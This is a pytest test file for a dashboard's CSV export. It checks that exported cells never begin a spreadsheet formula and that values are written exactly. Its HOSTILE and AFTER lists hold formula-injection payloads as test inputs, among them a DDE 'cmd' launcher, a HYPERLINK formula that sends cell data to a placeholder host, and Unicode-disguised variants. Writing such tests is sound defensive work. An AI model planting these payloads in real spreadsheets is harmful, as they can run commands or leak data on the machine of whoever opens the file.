"""CSV files that hold what people and exchanges named things."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from enum import StrEnum

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.csv_out import MARK, cell_text, harmless, write_csv
from tests.faults import fault

pytestmark = [fault("I6")]
D = Decimal
HOSTILE = [
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u00a0=1+1", "\u200b=1+1", "\u202e=1+1", "\ufeff=1+1", "\x00=1+1", "'=1+1", '"=1+1', '""=1+1',
    "＝1+1", "－1+1", "＠SUM(A1)", "−1+1", "﹦1+1", '=HYPERLINK("http://x/?"&A1,"go")', "-2+3+cmd|'x'!A",
    "=WEBSERVICE(A1)", "=", "-", "--", "@", "\t", "+", "=\x00", "=\u00e9",
]  # fmt: skip
AFTER = [
    "x;=1+1",
    'x";=1+1',
    "x,=1+1",
    "x; =1+1",
    "x;\t=1+1",
    'a";"=1+1',
    "x|@SUM(A1)",
    "x\n=1+1;=2",
]


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def starts_a_formula(cell: str) -> bool:
    visible = "".join(c for c in cell if unicodedata.category(c) not in ("Cf", "Cc", "Zl", "Zp"))
    return unicodedata.normalize("NFKC", visible).strip(' "').startswith(tuple("=+-@−"))


@pytest.mark.parametrize("name", HOSTILE, ids=repr)
def test_no_cell_begins_a_formula(name):
    [[header], [cell]] = cells(write_csv(["name"], [{"name": name}]))
    assert header == "name"
    assert not starts_a_formula(cell)
    assert cell[:1] in ("'", "") or cell.strip() == ""


@pytest.mark.parametrize("name", [*HOSTILE, *AFTER], ids=repr)
@pytest.mark.parametrize("divider", [",", ";", "\t", "|"])
def test_nor_where_a_spreadsheet_divides_otherwise(name, divider):
    """A German Excel cuts at semicolons, and quotes in the middle of a cell mean nothing to it."""
    content = write_csv(["at", "name"], [{"at": 1, "name": name}]).decode("utf-8-sig")
    for line in content.splitlines():
        for cell in line.split(divider):
            assert not starts_a_formula(cell)


@pytest.mark.parametrize("name", ["name", "=name"])
def test_the_heads_of_columns_are_safe_too(name):
    [[header]] = cells(write_csv([name], []))
    assert header == ("'=name" if name == "=name" else "name")


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (D("-5"), "-5"),
        (D("-0.000000000000000001"), "-0.000000000000000001"),
        (D("123456789012345678.123456789012345678"), "123456789012345678.123456789012345678"),
        (D("1E+5"), "100000"),
        (D("1E-7"), "0.0000001"),
        (D("2.50"), "2.5"),
        (D("-0.0"), "0"),
        (D("100"), "100"),
        (-7, "-7"),
        (None, ""),
        (True, "yes"),
        (False, "no"),
        ("", '""'),
        ("-5", '"-5"'),
        ("+1.5", '"+1.5"'),
        ("BTC/USDT", '"BTC/USDT"'),
        ('say "hi"', '"say ""hi"""'),
        ("a,b", '"a,b"'),
        ("two\r\nlines", '"two  lines"'),
        ("größer 币安", '"größer 币安"'),
        (datetime(2026, 11, 23, 1, 2, 3, tzinfo=UTC), "2026-11-23T01:02:03Z"),
        (
            datetime(2026, 11, 23, 1, 2, 3, 4, tzinfo=timezone(timedelta(hours=1))),
            "2026-11-23T00:02:03.000004Z",
        ),
    ],
)
def test_a_cell_is_exact(cell, text):
    assert cell_text(cell) == text


class Kind(StrEnum):
    LIVE = "live"


def test_a_member_of_an_enum_is_its_word():
    assert cell_text(Kind.LIVE) == '"live"'


@pytest.mark.parametrize("cell", [1.5, object(), b"x", [1]])
def test_what_is_no_value_of_ours_is_refused(cell):
    with pytest.raises(TypeError):
        cell_text(cell)


@pytest.mark.parametrize("cell", [D("NaN"), D("Infinity"), datetime(2026, 1, 1)])  # noqa: DTZ001
def test_what_cannot_be_written_exactly_is_refused(cell):
    with pytest.raises(ValueError, match="must"):
        cell_text(cell)


def test_columns_keep_their_order_and_gaps_stay_empty():
    content = write_csv(["b", "a"], [{"a": 1, "b": "x"}, {"a": 2}, {}])
    assert content == MARK + b'"b","a"\r\n"x",1\r\n,2\r\n,\r\n'


def test_without_rows_the_heads_stand_alone():
    assert write_csv(["b", "a"], []) == MARK + b'"b","a"\r\n'


def test_a_value_without_a_column_is_not_lost_silently():
    with pytest.raises(KeyError, match="c"):
        write_csv(["a"], [{"a": 1, "c": 2}])


def test_half_a_letter_does_no_harm():
    assert cells(write_csv(["a"], [{"a": "x\ud800"}])) == [["a"], ["x?"]]


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_any_text_stays_in_its_cell_and_begins_no_formula(names):
    columns = [str(number) for number in range(len(names))]
    found = cells(write_csv(columns, [dict(zip(columns, names, strict=True))]))
    assert len(found) == 2
    assert len(found[1]) == len(names)
    for cell in found[1]:
        assert not starts_a_formula(cell) or re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)", cell, re.ASCII)


@given(st.text())
def test_it_is_made_safe_once(text):
    once = harmless(text)
    assert harmless(once).lstrip("'") == once.lstrip("'")


@given(st.decimals(allow_nan=False, allow_infinity=False, places=18))
def test_any_number_is_read_back_equal(value):
    assert D(cell_text(value)) == value
